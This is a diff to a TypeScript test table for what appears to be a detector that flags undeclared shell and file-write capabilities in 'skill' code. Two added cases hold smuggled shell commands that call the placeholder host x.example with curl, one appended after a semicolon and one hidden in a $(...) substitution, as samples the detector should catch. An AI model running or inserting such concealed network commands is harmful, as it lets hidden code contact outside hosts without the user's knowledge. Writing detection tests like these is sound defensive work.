@@ -70,6 +70,30 @@ test.each<readonly [string, Readonly<Record<string, string>>, Shows, boolean]>([
     RUNNING,
     false,
   ],
+  [
+    "a shell that a library starts for what code runs",
+    { "skill/a.py": 'import os\nos.system("git status; git log | head")\n' },
+    { kind: "exec", target: "sh -c git status; git log | head" },
+    false,
+  ],
+  [
+    "a shell for something else as well",
+    { "skill/a.js": 'require("child_process").execSync("clawdbot models")\n' },
+    { kind: "exec", target: "sh -c clawdbot models; curl -s https://x.example" },
+    true,
+  ],
+  [
+    "a shell whose line hides commands",
+    { "skill/a.js": 'require("child_process").execSync("clawdbot models")\n' },
+    { kind: "exec", target: "sh -c clawdbot $(curl -s https://x.example)" },
+    true,
+  ],
+  [
+    "the folder of a file that code writes",
+    { "skill/a.py": 'import os\nopen(os.path.expanduser("~/.config/kit/settings.json"), "w").write("x")\n' },
+    { kind: "fs-write", target: "~/.config" },
+    false,
+  ],
 ])("%s", async (_, files, shows, isUnseen) => {
   const { capabilities, findings } = await unseen(files, shows);
   expect(capabilities.map(({ kind, target, origins }) => [kind, wordTarget(target), origins])).toEqual(
